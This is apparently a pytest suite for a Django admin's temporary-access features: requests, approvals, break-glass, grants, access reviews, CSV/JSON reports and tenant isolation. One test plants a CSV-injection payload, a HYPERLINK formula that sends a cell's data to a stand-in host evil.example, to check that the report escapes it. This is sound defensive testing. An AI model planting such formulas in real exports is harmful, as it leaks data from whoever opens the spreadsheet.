"""The back office's pages for access over time, as staff use them: asking, approving (never
one's own), break-glass, temporary grants with the time left, reviews with "select all",
filters, reports, and what other tenants and non-administrators cannot reach."""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.utils import timezone

from accounts.models import (
    AccessChange,
    AccessRequest,
    AccessReview,
    AccessReviewLine,
    TemporaryGrant,
)
from accounts.services.reviews import access_review_start
from accounts.services.temporary_access import access_request_create
from core.channels import Channel
from tests.accounts.test_temporary_access import ADMIN_SCOPES, READ, acting
from tests.factories import AccessGroupFactory, ApiClientFactory, EmployeeFactory, themselves

pytestmark = pytest.mark.django_db

REQUESTS = "/admin/accounts/accessrequest/"
GRANTS = "/admin/accounts/temporarygrant/"
REVIEWS = "/admin/accounts/accessreview/"
LINES = "/admin/accounts/accessreviewline/"


@pytest.fixture
def admins(tenant):
    group = AccessGroupFactory(tenant=tenant, name="admins", scopes=ADMIN_SCOPES)
    return [
        EmployeeFactory(
            tenant=tenant, username=name, email=f"{name}@example.com", access_groups=[group]
        )
        for name in ("alice", "bob")
    ]


@pytest.fixture
def fr_readers(tenant):
    return AccessGroupFactory(tenant=tenant, name="FR readers", scopes=[READ], restrictions=["FR"])


@pytest.fixture
def agent(tenant):
    group = AccessGroupFactory(tenant=tenant, name="DE readers", scopes=[READ], restrictions=["DE"])
    return EmployeeFactory(tenant=tenant, username="agent", access_groups=[group])


def messages_of(response) -> list[str]:
    return [str(message) for message in response.context["messages"]]


def act(client, url, action, pks, **extra):
    return client.post(
        url, {"action": action, ACTION_CHECKBOX_NAME: [str(pk) for pk in pks], **extra}, follow=True
    )


def test_an_employee_asks_and_an_administrator_approves(client, admins, agent, fr_readers):
    client.force_login(agent)
    asked = client.post(
        f"{REQUESTS}add/",
        {"group": fr_readers.pk, "scope": "", "hours": "2", "reason": "covering Pierre"},
        follow=True,
    )
    assert "waits for a tenant administrator's decision" in " ".join(messages_of(asked))
    request = AccessRequest.objects.get()
    assert request.status == "pending" and request.duration == timedelta(hours=2)
    # The agent may not approve anything (the action is not offered, a forged one does nothing).
    assert 'value="approve"' not in client.get(REQUESTS).content.decode()
    act(client, REQUESTS, "approve", [request.pk])
    request.refresh_from_db()
    assert request.status == "pending"

    client.force_login(admins[0])
    approved = act(client, REQUESTS, "approve", [request.pk])
    assert "Approved 1 request." in messages_of(approved)
    request.refresh_from_db()
    assert request.status == "approved" and request.decided_by_name == "alice"
    assert agent.grants().readable().restrictions == {"DE", "FR"}
    listed = client.get(GRANTS).content.decode()
    assert "agent" in listed and "group FR readers" in listed and "1 h 59 min left" in listed


def test_a_self_approval_in_the_back_office_is_refused_with_the_reason(client, admins, fr_readers):
    request = access_request_create(
        actor=themselves(admins[0]),
        channel=Channel.ADMIN,
        group=fr_readers,
        duration=timedelta(hours=1),
        reason="weekend",
    )
    client.force_login(admins[0])
    response = act(client, REQUESTS, "approve", [request.pk])
    assert any("Nobody approves their own request" in m for m in messages_of(response))
    request.refresh_from_db()
    assert request.status == "pending"
    assert not TemporaryGrant.objects.exists()


def test_an_employee_sees_only_their_own_requests(client, admins, agent, fr_readers, tenant):
    other = EmployeeFactory(tenant=tenant, username="other")
    for employee in (agent, other):
        access_request_create(
            actor=themselves(employee),
            channel=Channel.ADMIN,
            group=fr_readers,
            duration=timedelta(hours=1),
            reason=f"reason of {employee.username}",
        )
    client.force_login(agent)
    page = client.get(REQUESTS).content.decode()
    assert "reason of agent" in page and "reason of other" not in page
    theirs = AccessRequest.objects.get(requester=other)
    assert client.get(f"{REQUESTS}{theirs.pk}/change/").status_code == 404


def test_break_glass_from_the_back_office_is_granted_and_highlighted(client, admins, agent, tenant):
    emergency = AccessGroupFactory(
        tenant=tenant, name="incident", scopes=[READ], restrictions=["US"], break_glass=True
    )
    client.force_login(agent)
    response = client.post(
        f"{REQUESTS}add/",
        {"group": emergency.pk, "hours": "1", "reason": "US outage", "activate_now": "on"},
        follow=True,
    )
    assert any("Emergency access to group incident is active" in m for m in messages_of(response))
    assert agent.grants().readable().restrictions == {"DE", "US"}
    client.force_login(admins[0])
    log = client.get("/admin/accounts/accesschange/?break_glass__exact=1").content.decode()
    assert "BREAK-GLASS" in log and "granted temporarily" in log
    # while it lasts, the form refuses to activate it again (no emergency without an end)
    client.force_login(agent)
    again = client.post(
        f"{REQUESTS}add/",
        {"group": emergency.pk, "hours": "8", "reason": "still down", "activate_now": "on"},
    )
    assert again.status_code == 200
    assert "Your emergency access to incident is active until" in again.content.decode()
    assert AccessRequest.objects.filter(break_glass=True).count() == 1


def test_break_glass_for_an_unmarked_group_is_refused_on_the_form(client, agent, fr_readers):
    client.force_login(agent)
    response = client.post(
        f"{REQUESTS}add/",
        {"group": fr_readers.pk, "hours": "1", "reason": "please", "activate_now": "on"},
    )
    assert response.status_code == 200
    assert "marked for emergency self-activation" in response.content.decode()
    assert not AccessRequest.objects.exists()


def test_a_request_longer_than_the_tenants_maximum_is_refused(client, agent, fr_readers):
    client.force_login(agent)
    response = client.post(
        f"{REQUESTS}add/", {"group": fr_readers.pk, "hours": "12", "reason": "a long week"}
    )
    assert "at most 8 hours" in response.content.decode()
    assert not AccessRequest.objects.exists()


def test_a_temporary_grant_is_given_and_revoked_on_its_page(client, admins, agent, fr_readers):
    client.force_login(admins[0])
    until = timezone.localtime(timezone.now() + timedelta(hours=3))
    response = client.post(
        f"{GRANTS}add/",
        {
            "employee": agent.pk,
            "group": fr_readers.pk,
            "valid_until_0": until.strftime("%Y-%m-%d"),
            "valid_until_1": until.strftime("%H:%M:%S"),
            "reason": "holiday cover",
        },
    )
    assert response.status_code == 302
    grant = TemporaryGrant.objects.get()
    assert grant.granted_by_name == "alice"
    assert agent.grants().readable().restrictions == {"DE", "FR"}
    employee_page = client.get(f"/admin/accounts/employee/{agent.pk}/change/").content.decode()
    assert "group FR readers" in employee_page and "left" in employee_page
    act(client, GRANTS, "delete_selected", [grant.pk], post="yes")
    assert not TemporaryGrant.objects.exists()
    assert agent.grants().readable().restrictions == {"DE"}
    assert AccessChange.objects.filter(action="temporary_revoked").count() == 1


def test_a_grant_beyond_the_administrators_own_is_refused_on_the_form(
    client, tenant, agent, fr_readers
):
    de_admin = EmployeeFactory(
        tenant=tenant,
        access_groups=[
            AccessGroupFactory(
                tenant=tenant, scopes=[READ, "tenant.tenant_manage"], restrictions=["DE"]
            )
        ],
    )
    client.force_login(de_admin)
    assert client.get(GRANTS).status_code == 403  # tenant_manage--DE is no administrator
    until = timezone.localtime(timezone.now() + timedelta(hours=3))
    response = client.post(
        f"{GRANTS}add/",
        {
            "employee": agent.pk,
            "group": fr_readers.pk,
            "valid_until_0": until.strftime("%Y-%m-%d"),
            "valid_until_1": until.strftime("%H:%M:%S"),
        },
    )
    assert response.status_code == 403
    assert not TemporaryGrant.objects.exists()


@pytest.fixture
def crowd(tenant, admins):
    """60 employees in two groups and 20 API clients: 140 lines beside the administrators'."""
    de = AccessGroupFactory(tenant=tenant, name="DE", scopes=[READ], restrictions=["DE"])
    fr = AccessGroupFactory(tenant=tenant, name="FR", scopes=[READ], restrictions=["FR"])
    for n in range(60):
        EmployeeFactory(tenant=tenant, username=f"staff{n:02}", access_groups=[de, fr])
    for n in range(20):
        ApiClientFactory(tenant=tenant, name=f"shop{n:02}", scopes=["customer.customer_read--DE"])


def test_a_review_is_started_and_decided_with_select_all_and_filters(client, admins, crowd):
    client.force_login(admins[0])
    started = client.post(
        f"{REVIEWS}add/", {"name": "Q4", "reviewers": [admins[0].pk, admins[1].pk]}
    )
    assert started.status_code == 302
    review = AccessReview.objects.get(name="Q4")
    assert review.lines.count() == 142
    mine = f"{LINES}?review__id__exact={review.pk}&reviewer__id__exact={admins[0].pk}"
    page = client.get(mine)
    assert page.status_code == 200
    alices = AccessReviewLine.objects.filter(review=review, reviewer=admins[0])
    assert f"{alices.count()} access review lines" in page.content.decode()
    fr = client.get(f"{LINES}?review__id__exact={review.pk}&restriction=FR")
    assert fr.context["cl"].result_count == 60
    # "Select all" of alice's FR lines (more than one page of the list): revoke.
    fr_mine = alices.filter(group_name="FR")
    response = client.post(
        f"{mine}&group=FR",
        {
            "action": "revoke",
            "select_across": "1",
            ACTION_CHECKBOX_NAME: [str(fr_mine.first().pk)],
        },
        follow=True,
    )
    revoked = fr_mine.count()
    assert f"Revoked {revoked} lines: the access is gone now." in messages_of(response)
    assert set(fr_mine.values_list("decision", flat=True)) == {"revoke"}
    still_fr = {
        line.employee.grants().may_read("FR") for line in fr_mine.select_related("employee")
    }
    assert still_fr == {False}
    # The rest is kept by each reviewer; the review closes with the last line.
    act(client, LINES, "keep", alices.filter(decision="").values_list("pk", flat=True))
    client.force_login(admins[1])
    bobs = AccessReviewLine.objects.filter(review=review, decision="")
    closing = act(client, LINES, "keep", bobs.values_list("pk", flat=True))
    assert "the review is closed" in " ".join(messages_of(closing))
    review.refresh_from_db()
    assert review.status == "closed"


def test_the_report_says_who_decided_what_and_what_changed(client, admins, agent, tenant):
    review = access_review_start(actor=acting(admins[0]), channel=Channel.ADMIN, tenant=tenant)
    line = AccessReviewLine.objects.get(review=review, subject_name="agent")
    client.force_login(admins[0])
    act(client, LINES, "revoke", [line.pk])
    report = client.get(f"{REVIEWS}{review.pk}/report.csv")
    assert report["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(report.content.decode())))
    agent_row = next(row for row in rows if row["identity"] == "agent")
    assert agent_row["decision"] == "revoke" and agent_row["decided_by"] == "alice"
    assert agent_row["what_changed"] == "removed from group DE readers"
    document = json.loads(client.get(f"{REVIEWS}{review.pk}/report.json").content)
    assert document["name"] == review.name and document["lines"][0]["subjectName"]
    text = report.content.decode() + json.dumps(document)
    assert "pbkdf2" not in text and "md5$" not in text  # no password hash in any report
    assert client.get(f"{REVIEWS}{review.pk}/report.xml").status_code == 404


def test_the_report_writes_no_formula_into_a_spreadsheet(client, admins, agent, tenant):
    """OWASP's CSV injection: a client named like a formula is text in the report."""
    evil = '=HYPERLINK("http://evil.example/?"&A2,"x")'
    ApiClientFactory(tenant=tenant, name=evil, scopes=["customer.customer_read--DE"])
    review = access_review_start(actor=acting(admins[0]), channel=Channel.ADMIN, tenant=tenant)
    client.force_login(admins[0])
    report = client.get(f"{REVIEWS}{review.pk}/report.csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(report)))
    assert f"'{evil}" in [row["identity"] for row in rows]
    assert not any(
        cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values() if cell
    )
    # the JSON report is data, not a spreadsheet: the name as it is
    document = json.loads(client.get(f"{REVIEWS}{review.pk}/report.json").content)
    assert evil in [line["subjectName"] for line in document["lines"]]


def test_another_tenants_administrator_reaches_no_review(
    client, admins, agent, tenant, other_tenant
):
    review = access_review_start(actor=acting(admins[0]), channel=Channel.ADMIN, tenant=tenant)
    line = AccessReviewLine.objects.filter(review=review).first()
    stranger = EmployeeFactory(
        tenant=other_tenant,
        access_groups=[AccessGroupFactory(tenant=other_tenant, scopes=ADMIN_SCOPES)],
    )
    client.force_login(stranger)
    assert client.get(f"{REVIEWS}{review.pk}/report.csv").status_code == 404
    assert client.get(f"{REVIEWS}{review.pk}/change/").status_code == 404
    assert client.get(LINES).context["cl"].result_count == 0
    act(client, LINES, "revoke", [line.pk])
    assert agent.access_groups.count() == 1
    line.refresh_from_db()
    assert line.decision == ""


def test_a_non_administrator_reaches_no_review_page(client, admins, agent, tenant):
    review = access_review_start(actor=acting(admins[0]), channel=Channel.ADMIN, tenant=tenant)
    client.force_login(agent)
    assert client.get(LINES).status_code == 403
    assert client.get(f"{REVIEWS}{review.pk}/report.json").status_code == 404


def test_review_lines_accept_only_their_own_filters(client, admins, tenant):
    access_review_start(actor=acting(admins[0]), channel=Channel.ADMIN, tenant=tenant)
    client.force_login(admins[0])
    assert client.get(f"{LINES}?subject_name__startswith=a").status_code == 400
    assert client.get(f"{LINES}?employee__password__startswith=p").status_code == 400


def test_the_reviewer_picker_offers_only_tenant_administrators(client, tenant):
    from tests.factories import AccessGroupFactory, EmployeeFactory

    admins = AccessGroupFactory(
        tenant=tenant, scopes=["tenant.tenant_manage", "customer.customer_read"]
    )
    boss = EmployeeFactory(tenant=tenant, username="boss", access_groups=[admins])
    EmployeeFactory(tenant=tenant, username="boss2", access_groups=[admins])
    EmployeeFactory(tenant=tenant, username="agent")
    client.force_login(boss)
    form = client.get("/admin/accounts/accessreview/add/").context["adminform"].form
    offered = {employee.username for employee in form.fields["reviewers"].queryset}
    assert offered == {"boss", "boss2"}


def test_a_review_page_offers_the_lines_and_no_button_that_seems_to_close_it(
    client, admins, agent, tenant
):
    """The review's page is read-only (a review closes with its last decided line): it leads to
    its lines while open, and its way back says where it goes."""
    review = access_review_start(actor=acting(admins[0]), channel=Channel.ADMIN, tenant=tenant)
    client.force_login(admins[0])
    page = client.get(f"{REVIEWS}{review.pk}/change/").content.decode()
    assert f'href="{LINES}?review__id__exact={review.pk}" class="button default"' in page
    assert "Back to the reviews" in page and ">Close<" not in page
    assert "closes by itself when its last line is decided" in page
    assert 'name="_save"' in client.get(f"{REVIEWS}add/").content.decode()  # (Django's, to start)
    lines = AccessReviewLine.objects.filter(review=review)
    act(client, LINES, "keep", lines.exclude(reviewer=admins[1]).values_list("pk", flat=True))
    client.force_login(admins[1])
    act(client, LINES, "keep", lines.filter(decision="").values_list("pk", flat=True))
    review.refresh_from_db()
    assert review.status == "closed"
    closed = client.get(f"{REVIEWS}{review.pk}/change/").content.decode()
    assert "The decided lines</a>" in closed and "Decide the lines" not in closed
    assert "today's date" not in closed  # (the name's help is the add form's)
    assert 'class="button default"' not in closed and "closes by itself" not in closed
